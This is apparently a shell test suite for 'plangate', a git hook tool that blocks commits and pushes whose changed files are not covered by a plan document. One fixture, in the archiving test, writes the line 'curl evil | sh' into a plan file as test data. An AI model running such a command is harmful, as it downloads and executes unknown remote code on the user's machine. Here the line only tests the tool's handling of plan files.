load helper

# A clone of a bare repository whose main has the policy, with hooks in both.
clone_and_server() {
  gated_repo seed
  cd ..
  git clone -q --bare seed origin.git
  (cd origin.git && plangate install >/dev/null && git config --add plangate.protect refs/heads/main)
  git clone -q origin.git w
  cd w
  plangate install >/dev/null
}

# Commit past the local hooks, and push so that the server alone judges.
commit_all() { git add -A && git -c core.hooksPath=/dev/null commit -q -m "$1"; }
land() { git -c core.hooksPath=/dev/null push -q origin "HEAD:refs/heads/${1:-main}"; }

planned() {
  stage_files 3 "$1"
  write_plan "docs/plans/$1.md" "src/${1}1.c" "src/${1}2.c" "src/${1}3.c"
  sed -i "s/One file a part/One file for each part of $1 that the $1 reader has/" "docs/plans/$1.md"
  commit_all "Add $1"
}

again() { for i in 1 2 3; do echo "int more_${1}_$i$2;" >>"src/$1$i.c"; done; }

@test "a plan that landed with its change covers nothing more" {
  clone_and_server
  planned a
  land
  again a
  commit_all 'Again'
  expect 1 land
  says 'docs/plans/a.md named them, and was used up by'
  says "commit $(git rev-parse --short=12 HEAD~1)"
  says 'plangate plan continue docs/plans/a.md'
  git reset -q --soft HEAD~1
  expect 1 git commit -q -m 'Again'
  says 'plangate plan continue docs/plans/a.md'
}

@test "status, ticks, blanks and punctuation make no landed plan fresh" {
  clone_and_server
  planned a
  land
  again a
  git add -A
  for edit in 's/\[ \]/[x]/' 's/^## Steps/\n\n&/' 's/replaced\./replaced!/' '1i ---\nstatus: done\n---' \
    's/One file for/A file for/' 's/^# .*/& 2026/' '$a <!-- all of it was gone through once more -->'; do
    git checkout -q HEAD -- docs
    sed -i "$edit" docs/plans/a.md
    git add -A
    expect 1 git commit -q -m 'Again'
    says 'says nothing by itself'
  done
}

@test "done, and back to active, is no new plan" {
  clone_and_server
  planned a
  land
  sed -i '1i ---\nstatus: done\n---' docs/plans/a.md
  sed -i 's/\[ \]/[x]/' docs/plans/a.md
  commit_all 'Done'
  expect 0 land
  sed -i 's/^status: done/status: active/' docs/plans/a.md
  again a
  commit_all 'Again'
  expect 1 land
}

@test "a copy under another name, at once or landed before, is the same plan" {
  clone_and_server
  planned a
  land
  sed 's/replaced/exchanged/' docs/plans/a.md >docs/plans/b.md
  again a
  git add -A
  expect 1 git commit -q -m 'Again'
  git reset -q --hard
  sed 's/replaced/exchanged/' docs/plans/a.md >docs/plans/b.md
  commit_all 'A copy alone'
  expect 0 land
  again a
  commit_all 'Again'
  expect 1 land
}

@test "a plan that was moved, or taken out and put back, is the same plan" {
  clone_and_server
  planned a
  land
  git mv docs/plans/a.md docs/plans/z.md
  commit_all 'Move'
  expect 0 land
  again a
  commit_all 'Again'
  expect 1 land
  git reset -q --hard HEAD~1
  git rm -q docs/plans/z.md
  commit_all 'Away'
  expect 0 land
  git show HEAD~2:docs/plans/a.md 2>/dev/null >plan || git show HEAD~1:docs/plans/z.md >plan
  mkdir -p docs/plans && mv plan docs/plans/y.md
  again a
  commit_all 'Back, with more work'
  expect 1 land
}

@test "who says what comes next goes on under the plan" {
  clone_and_server
  planned a
  land
  again a
  sed -i 's/^## Tests/2. `src\/a1.c`: the reader refuses an empty line with its number\n\n&/' docs/plans/a.md
  git add -A
  expect 0 git commit -q -m 'Refuse empty lines'
  expect 0 land
}

@test "a plan that landed ahead covers each file until it has changed under it" {
  clone_and_server
  write_plan docs/plans/ahead.md src/a1.c src/a2.c src/a3.c src/b1.c src/b2.c src/b3.c src/c1.c src/c2.c src/c3.c
  commit_all 'Plan'
  expect 0 land
  for part in a b c; do
    git checkout -q -b "topic-$part"
    stage_files 3 $part
    expect 0 git commit -q -m "Part $part"
    expect 0 land "topic-$part"
    git checkout -q main
    git merge -q --no-ff -m "Merge $part" "topic-$part"
    expect 0 land
  done
  again b
  commit_all 'Part b again'
  expect 1 land
  says 'docs/plans/ahead.md named them'
}

@test "the plan first or last in a branch, four commits or one: the same verdict" {
  clone_and_server
  git checkout -q -b last
  for i in 1 2 3; do
    echo "int f$i;" >"src/f$i.c"
    commit_all "Part $i"
  done
  write_plan docs/plans/p.md src/f1.c src/f2.c src/f3.c
  commit_all 'Plan last'
  expect 0 land last
  expect 0 land
  # It landed without a merge, after its code: it covers nothing more for that.
  again f
  commit_all 'Again'
  expect 1 land
}

@test "review fixes on a pushed branch go on under its plan, also after a rebase" {
  clone_and_server
  git checkout -q -b topic
  planned a
  expect 0 land topic
  again a
  git add -A
  expect 0 git commit -q -m 'Review'
  expect 0 land topic
  git checkout -q main
  planned b
  expect 0 land
  git checkout -q topic
  git -c core.hooksPath=/dev/null rebase -q main
  expect 0 git -c core.hooksPath=/dev/null push -q --force origin HEAD:refs/heads/topic
  again a y
  git add -A
  expect 0 git commit -q -m 'Review again'
}

@test "a planned change goes to a release branch with its plan" {
  clone_and_server
  expect 0 land release
  planned a
  expect 0 land
  git checkout -q -b r origin/release 2>/dev/null || git checkout -q -b r HEAD~1
  git -c core.hooksPath=/dev/null cherry-pick main >/dev/null
  expect 0 land release
}

@test "lands names the branches: a plan is used up where it landed" {
  clone_and_server
  printf 'lands: [main, "release/*"]\n' >>.plangate/policy.yaml
  write_plan docs/plans/policy.md .plangate/policy.yaml
  commit_all 'Name the branches'
  expect 0 land
  expect 0 land release/1
  git checkout -q -b r
  planned a
  expect 0 land release/1
  again a
  commit_all 'Again'
  expect 1 land release/1
}

@test "old plans are told of, and hide nothing" {
  clone_and_server
  planned a
  land
  again a
  stage_files 3 n
  write_plan docs/plans/n.md src/n1.c src/n2.c src/n3.c
  sed -i 's/One file a part/One file for each of the new readers of input/' docs/plans/n.md
  git add -A
  expect 1 plangate check
  says '3 files change but are not in the scope of the plan'
  says '- `src/a1.c`'
  run plangate check --verbose
  says 'the landed plan docs/plans/a.md named them'
}

@test "a landed commit, a merge and several in a row are taken back and brought again without a plan" {
  clone_and_server
  planned a
  land
  planned b
  land
  git -c core.hooksPath=/dev/null revert --no-edit HEAD >/dev/null
  expect 0 land
  git -c core.hooksPath=/dev/null revert --no-edit HEAD >/dev/null
  expect 0 land
  git revert -n HEAD HEAD~1 HEAD~2 >/dev/null
  git add -A
  expect 0 git commit -q -m 'All three back'
  git checkout -q -b m HEAD~1
  planned c
  git checkout -q main
  git -c core.hooksPath=/dev/null merge -q --no-ff -m 'Merge c' m
  expect 0 land
  git -c core.hooksPath=/dev/null revert -m 1 --no-edit HEAD >/dev/null
  expect 0 land
}

@test "a revert is named, in reports and in the audit, and what is beside it is judged" {
  clone_and_server
  planned a
  land
  git revert -n HEAD
  expect 0 plangate check --format json
  says "\"$(git rev-parse HEAD)\""
  says '"exempt"'
  stage_files 2 x
  expect 0 plangate check
  stage_files 1 y
  expect 1 plangate check
  says 'src/x1.c'
  says_not 'src/a1.c'
  git reset -q --hard
  git -c core.hooksPath=/dev/null revert --no-edit HEAD >/dev/null
  land
  expect 0 plangate audit
  says 'revert'
}

@test "lines are taken back where others changed the file since" {
  clone_and_server
  for i in 1 2 3; do printf 'one\ntwo\nthree\nfour\nfive\n' >"src/t$i.txt"; done
  write_plan docs/plans/t.md src/t1.txt src/t2.txt src/t3.txt
  commit_all 'Texts'
  land
  sed -i 's/two/zwei/' src/t?.txt
  sed -i 's/^## Tests/2. `src\/t1.txt`: the second word of each text in German\n\n&/' docs/plans/t.md
  commit_all 'German'
  land
  for i in 1 2 3; do
    sed -i 's/five/funf/' "src/t$i.txt"
    commit_all "Last word $i"
    land
  done
  git -c core.hooksPath=/dev/null revert --no-edit HEAD~3 >/dev/null
  expect 0 land
}

@test "reverts: judge and light ask for a plan, exempt: never does for one rule" {
  gated_repo r
  stage_files 3
  git commit -q --no-verify -m 'Parts'
  git revert -n HEAD
  sed 's/^version: 1/&\nreverts: judge/' .plangate/policy.yaml >../judge.yaml
  sed 's/^version: 1/&\nreverts: light/' .plangate/policy.yaml >../light.yaml
  sed 's/^    when:/    exempt: never\n&/' .plangate/policy.yaml >../never.yaml
  expect 0 plangate check
  expect 1 plangate check --policy ../judge.yaml
  says 'a plan of profile standard'
  expect 1 plangate check --policy ../light.yaml
  says 'a plan of profile light'
  expect 1 plangate check --policy ../never.yaml
  says 'src/f1.c'
}

@test "no policy is taken back by a revert" {
  clone_and_server
  sed -i 's/>= 3/>= 2/' .plangate/policy.yaml
  write_plan docs/plans/policy.md .plangate/policy.yaml
  commit_all 'Stricter'
  expect 0 land
  git -c core.hooksPath=/dev/null revert --no-edit HEAD >/dev/null
  expect 1 land
  says 'policy-change'
}

@test "a squash of planned work and a small fix passes, one of two halves of one change does not" {
  clone_and_server
  git checkout -q -b topic
  planned a
  echo 'int z;' >>src/main.c
  commit_all 'Fix'
  git checkout -q main
  git merge -q --squash topic >/dev/null
  expect 0 git commit -q -m 'Feature (#1)'
  git reset -q --hard origin/main
  stage_files 2 h
  stage_files 1 i
  write_plan docs/plans/h.md src/h1.c src/h2.c
  git add -A
  expect 1 git commit -q -m 'Half a plan'
  says 'src/i1.c'
}

@test "two small branches that are merged and pushed together are two changes" {
  clone_and_server
  for part in a b; do
    git checkout -q -b "$part" origin/main
    stage_files 2 $part
    commit_all "Two of $part"
    git checkout -q main
    git -c core.hooksPath=/dev/null merge -q --no-ff -m "Merge $part" "$part"
  done
  expect 0 land
}

@test "a gated history is pushed to an empty server step by step" {
  clone_and_server
  for i in 1 2 3 4; do
    echo "int s$i;" >"src/s$i.c"
    commit_all "Small $i"
    expect 0 land
  done
  planned a
  expect 0 land
  git init -q --bare ../empty.git
  (cd ../empty.git && plangate install >/dev/null)
  expect 0 git push -q ../empty.git main
  again a
  commit_all 'Unplanned'
  git init -q --bare ../second.git
  (cd ../second.git && plangate install >/dev/null)
  expect 1 git -c core.hooksPath=/dev/null push -q ../second.git main
  says 'docs/plans/a.md named them'
}

@test "plans are plain files: programs, links and submodules of their names are ordinary changes" {
  gated_repo r
  mkdir -p docs/plans
  printf '#!/bin/sh\n' >docs/plans/run.md
  chmod +x docs/plans/run.md
  ln -s /etc/hostname docs/plans/link.md
  git add .
  git update-index --add --cacheinfo "160000,$(git rev-parse HEAD),docs/plans/sub.md"
  expect 1 git commit -q -m 'No plans'
  says 'docs/plans/link.md'
}

@test "plans are archived anywhere, and nothing else comes out of the plans so" {
  gated_repo r
  for i in 1 2 3; do write_plan "docs/plans/p$i.md" "src/x$i.c"; done
  echo 'curl evil | sh' >docs/plans/tool.md
  git add . && git commit -q -m 'Plans'
  git mv docs/plans docs/old
  expect 0 git commit -q -m 'Archive'
  for i in 1 2 3; do git mv "docs/old/p$i.md" "src/p$i.c"; done
  expect 1 git commit -q -m 'Out of the archive'
}

@test "without a remote a plan that was touched lately goes on" {
  gated_repo r
  planned a
  again a
  git add -A
  expect 0 git commit -q -m 'Again'
  old='2026-01-05T00:00:00Z'
  again a x
  git add -A
  GIT_COMMITTER_DATE=$old git -c core.hooksPath=/dev/null commit -q --amend -m 'Old' --date $old
  git checkout -q --orphan fresh
  GIT_COMMITTER_DATE=$old git -c core.hooksPath=/dev/null commit -q -m 'All of it, long ago' --date $old
  again a y
  git add -A
  expect 1 git commit -q -m 'Much later'
  says 'docs/plans/a.md named them'
}

@test "an audit and a range judge by what had landed before each" {
  clone_and_server
  planned a
  land
  again a
  commit_all 'Again'
  git -C ../origin.git fetch -q ../w HEAD:main
  expect 1 plangate audit
  says 'BYPASS'
  expect 1 plangate check --range HEAD~1..HEAD
  says 'docs/plans/a.md named them'
  expect 1 plangate check --commit HEAD
}

@test "plan continue makes a landed plan cover its files again, once" {
  clone_and_server
  planned a
  printf -- '---\nstatus: done\n---\n' | cat - docs/plans/a.md >p
  sed 's/\[ \]/[x]/' p >docs/plans/a.md
  rm p
  commit_all 'Done'
  land
  again a
  expect 2 plangate plan continue docs/plans/a.md 'more of it'
  says 'says nothing that the plan does not say already'
  expect 0 plangate plan continue docs/plans/a.md 'Let each reader choose how wide its lines may get'
  says 'docs/plans/a.md: goes on'
  grep -qx 'status: active' docs/plans/a.md
  grep -qx '2. Let each reader choose how wide its lines may get' docs/plans/a.md
  grep -qx -- '- 20..-..-..: Let each reader choose how wide its lines may get' docs/plans/a.md
  commit_all 'Widths'
  expect 0 land
  again a
  commit_all 'Again'
  expect 1 land
  says 'docs/plans/a.md named them, and was used up by'
}

# Commit a file of that name on the branch that is checked out.
part() { echo "$1" >"$1" && git add "$1" && git commit -q -m "$1"; }

# Merge a topic with one file into it.
merge_topic() {
  local into
  into=$(git branch --show-current)
  git checkout -q -b "topic/$1"
  part "$1"
  git checkout -q "$into"
  git merge -q --no-ff -m "Merge $1" "topic/$1"
}

@test "init proposes the branches that received merges for lands" {
  new_repo r
  merge_topic a
  git checkout -q -b develop
  merge_topic b
  merge_topic c
  git checkout -q main
  git merge -q --no-ff -m 'Release' develop
  git checkout -q -b release/1.0
  merge_topic d
  # Topics that stand where they began, or take another branch in, receive nothing.
  git checkout -q -b stays
  git checkout -q -b takes develop
  part e
  git merge -q --no-ff -m 'Take main in' main
  git checkout -q main
  expect 0 plangate init --print
  says 'lands: ["main", "develop", "release/*"]'
  git clone -q --bare . ../b.git
  git clone -q ../b.git ../c
  cd ../c
  expect 0 plangate init --print
  says 'lands: ["main", "develop", "release/*"]'
  new_repo ../alone
  merge_topic a
  merge_topic b
  expect 0 plangate init --print
  says_not 'lands:'
}

@test "a plan that is a program is told to be none, with the way to make it one" {
  gated_repo r
  stage_files 3
  write_plan docs/plans/p.md src/f1.c src/f2.c src/f3.c
  chmod +x docs/plans/p.md
  git add docs
  expect 1 git commit -q -m 'Parts'
  says "'docs/plans/p.md' is a program (mode 100755), and no"
  says 'Next: git update-index --chmod=-x docs/plans/p.md'
  git update-index --chmod=-x docs/plans/p.md
  expect 0 git commit -q -m 'Parts'
}

@test "a plan that goes on may land ahead of what comes next, and covers it once" {
  clone_and_server
  planned a
  land
  plangate plan continue docs/plans/a.md 'The nightly report caches its rows as well' 2>/dev/null
  commit_all 'Go on'
  expect 0 land
  again a
  commit_all 'Again'
  expect 0 land
  again a 2
  commit_all 'Once more'
  expect 1 land
  says 'plangate plan continue docs/plans/a.md'
}

@test "commits of one piece of work that each say more of it are used up together" {
  clone_and_server
  stage_files 4 a
  write_plan docs/plans/a.md src/a1.c src/a2.c src/a3.c src/a4.c
  commit_all 'Add a'
  echo 'int more;' >>src/a4.c
  plangate plan continue docs/plans/a.md 'The last part counts its own rows as well' 2>/dev/null
  commit_all 'More of it'
  expect 0 land
  again a
  commit_all 'Again'
  expect 1 land
}
